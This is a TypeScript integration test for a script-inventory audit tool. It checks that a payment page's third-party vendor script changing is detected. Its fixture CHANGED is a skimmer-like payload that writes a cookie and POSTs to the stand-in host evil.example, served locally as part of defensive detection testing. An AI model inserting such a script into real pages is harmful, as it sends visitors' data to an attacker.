import { createHash } from 'node:crypto';
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Audit } from '../../src/core/audit/audit.ts';
import type { Inventory } from '../../src/core/inventory/inventory.ts';

const COMMAND = 'dist/command/main.js';
const VENDOR = 'window.vendor = "é 1";';
const CHANGED = `${VENDOR} document.cookie = 'v=1'; fetch('http://evil.example:' + location.port + '/c', { method: 'POST', mode: 'no-cors', body: 'x' });`;

/** What the site serves at the moment. */
const site = { vendor: VENDOR, loads: 0 };
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

const server = createServer((request, response) => {
  request.resume();
  const { pathname } = new URL(request.url ?? '/', 'http://x');
  const { port } = server.address() as AddressInfo;
  if (pathname === '/vendor.js') { response.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'no-store' }).end(site.vendor); return; }
  if (pathname !== '/') { response.writeHead(204).end(); return; }
  site.loads += 1;
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(`<!doctype html><title>pay</title><link rel="icon" href="data:,">
<script src="http://tags.example:${port}/vendor.js?cb=${site.loads}"></script><script>window.nonce = "n${site.loads}"</script>`);
});

const folder = mkdtempSync(join(tmpdir(), 'sillage-inventory-'));
const file = join(folder, 'scripts.json');
const tagAt = (): string => `http://tags.example:${(server.address() as AddressInfo).port}/vendor.js`;
const saved = (): Inventory => JSON.parse(readFileSync(file, 'utf8')) as Inventory;

function audited(...given: readonly string[]): Promise<{ readonly code: number | null; readonly stdout: string; readonly stderr: string }> {
  const rules = '--browser-arg=--host-resolver-rules=MAP tags.example 127.0.0.1, MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1';
  // An address of this machine's own counts as safe, so that inline scripts have their digests.
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const child = spawn(process.execPath, [COMMAND, 'audit', url, '--out', join(folder, 'out'), '--format', 'json,scripts-csv', '--lang', 'en', rules, ...given]);
  const told = { stdout: '', stderr: '' };
  child.stdout.on('data', text => { told.stdout += String(text); });
  child.stderr.on('data', text => { told.stderr += String(text); });
  return new Promise(done => { child.on('close', code => { done({ code, ...told }); }); });
}

beforeAll(async () => {
  if (!existsSync(COMMAND)) throw new Error(`${COMMAND} is missing: run npm run build first`);
  await new Promise<void>(done => { server.listen(0, '127.0.0.1', done); });
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
  rmSync(folder, { recursive: true, force: true });
});

it('is saved with what each script said, kept to, and left where it is', async () => {
  expect(await audited('--save-inventory', file)).toMatchObject({ code: 0, stdout: expect.stringContaining(file) as string });
  const audit = JSON.parse(readFileSync(join(folder, 'out', 'audit.json'), 'utf8')) as Audit;
  expect(audit.scripts.find(script => script.address === tagAt())).toMatchObject({ of: 'file', party: 'third', mode: 'blocking', integrity: 'none', hashed: 'yes', sha256: [sha256(VENDOR)] });
  expect(audit.scripts.find(script => script.of === 'inline')).toMatchObject({ sha256: [sha256('window.nonce = "n1"')] });
  expect(readFileSync(join(folder, 'out', 'scripts.csv'), 'utf8')).toContain(sha256(VENDOR));

  const before = readFileSync(file, 'utf8');
  expect(await audited('--save-inventory', file)).toMatchObject({ code: 2, stderr: expect.stringContaining('not there yet') as string });
  expect(readFileSync(file, 'utf8')).toBe(before);
});

it('tells what changed, keeps what people said, and then is content', async () => {
  const authorized = { justification: 'tags', authorizedBy: 'R. Ito', authorizedOn: '2026-11-01' };
  const { scripts, ...rest } = saved();
  writeFileSync(file, JSON.stringify({ ...rest, scripts: scripts.map(script => ({ ...script, ...authorized, ...script.of === 'inline' ? { varies: true } : {} })) }));

  expect(await audited('--inventory', file)).toMatchObject({ code: 0, stdout: expect.stringContaining('Nothing new') as string });

  site.vendor = CHANGED;
  const { code, stdout, stderr } = await audited('--inventory', file, '--save-inventory', file);
  expect(code).toBe(1);
  expect(stderr).toContain(`--inventory ${file}`);
  expect(stdout).toContain('Addresses are compared without query');
  for (const line of [/changed +http:\/\/tags/u, /now does +http:\/\/tags.*writes cookies: v/u, /now sends to +http:\/\/tags.*: evil\.example/u]) expect(stdout).toMatch(line);
  expect(stdout).not.toMatch(/^ +new /mu);
  expect(saved().scripts.find(script => script.address === tagAt())).toMatchObject({ justification: 'tags', authorizedBy: '', authorizedOn: '', sha256: [sha256(CHANGED)], doing: { sends: [{ domain: 'evil.example' }] } });
});

it('that is none ends in a clear message, before anything is visited', async () => {
  writeFileSync(file, '{\n "schema": "sillage.scripts/1",\n "pages": 7\n}');
  const loads = site.loads;
  expect(await audited('--inventory', file)).toMatchObject({ code: 2, stdout: '', stderr: expect.stringMatching(/scripts\.json:3:\d+: \$\.pages: expected/u) as string });
  expect(await audited('--inventory', join(folder, 'none.json'))).toMatchObject({ code: 2, stderr: expect.stringContaining('can be read') as string });
  expect(site.loads).toBe(loads);
});
